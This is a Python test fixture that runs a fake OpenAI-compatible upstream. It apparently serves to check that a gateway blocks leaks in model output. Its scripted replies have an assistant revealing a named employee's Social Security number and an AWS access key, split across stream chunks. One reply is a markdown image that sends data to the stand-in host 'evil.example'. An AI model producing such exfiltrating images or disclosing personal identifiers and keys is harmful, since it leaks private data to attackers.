"""A scripted OpenAI-compatible upstream for the gateway tests (loopback only).

``POST /v1/chat/completions`` answers the script named by the request's
``model``: a list of pieces, sent as one message or as one stream event
each. Every request body is recorded so tests can read what ragseal sent.
"""

from __future__ import annotations

import asyncio
import json
from typing import Any

from starlette.applications import Starlette
from starlette.requests import Request
from starlette.responses import JSONResponse, Response, StreamingResponse
from starlette.routing import Route

SSN = "143-82-6604"  # Helen Zhao's, in hr/employee-roster (restricted: US_SSN)
AWS_KEY = "AKIAQ3EGRJ5KZXMBT7WN"
EVIL = "evil.example"

SCRIPTS: dict[str, list[str]] = {
    "clean": ["The travel ", "policy allows economy ", "class for flights ",
              "under six hours, and business class above that."],
    # The SSN split across stream events, then plenty more text after it.
    "ssn": ["According to the roster, ", "the CEO's SSN is 14", "3-8", "2-66", "04, if ",
            "that helps. Ask HR for anything else you need about her record."],
    "secret": ["Use the deploy key ", "AKIAQ3", "EGRJ5KZ", "XMBT7WN to push ", "the release."],
    "image": ["Here is the summary you asked for. ", "![s](https://", "evil.example/p.png?d=",
              "8841) That is all."],
    "long": ["word " * 40],
}


class Upstream:
    def __init__(self) -> None:
        self.requests: list[dict[str, Any]] = []
        self.app = Starlette(routes=[
            Route("/v1/chat/completions", self.complete, methods=["POST"])])

    async def complete(self, request: Request) -> Response:
        body = await request.json()
        self.requests.append(body)
        script = SCRIPTS.get(body.get("model"), ["?"])
        if body.get("model") == "broken":
            return JSONResponse({"error": {"message": "upstream secret detail"}},
                                status_code=500)
        if not body.get("stream"):
            return JSONResponse({
                "id": "up-1", "object": "chat.completion", "created": 0,
                "model": body.get("model"),
                "choices": [{"index": 0, "finish_reason": "stop",
                             "message": {"role": "assistant", "content": "".join(script)}}],
                "usage": {"prompt_tokens": 10, "completion_tokens": 5, "total_tokens": 15}})

        async def events() -> Any:
            for piece in script:
                event = {"id": "up-1", "object": "chat.completion.chunk", "created": 0,
                         "model": body.get("model"),
                         "choices": [{"index": 0, "delta": {"content": piece},
                                      "finish_reason": None}]}
                yield f"data: {json.dumps(event)}\n\n"
                await asyncio.sleep(0)
            done = {"id": "up-1", "object": "chat.completion.chunk", "created": 0,
                    "model": body.get("model"),
                    "choices": [{"index": 0, "delta": {}, "finish_reason": "stop"}]}
            yield f"data: {json.dumps(done)}\n\n"
            yield "data: [DONE]\n\n"

        return StreamingResponse(events(), media_type="text/event-stream")
